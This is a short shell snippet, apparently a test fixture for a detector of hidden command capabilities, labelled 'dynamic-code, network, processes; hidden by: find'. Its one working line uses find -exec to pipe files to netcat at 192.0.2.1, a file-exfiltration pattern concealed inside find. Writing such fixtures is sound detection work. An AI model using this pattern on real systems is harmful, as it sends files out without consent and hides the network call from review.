# capabilities: dynamic-code, network, processes; hidden by: find
find /nonexistent -type f -exec sh -c 'nc 192.0.2.1 9 < "$1"' _ {} \;
echo "done"
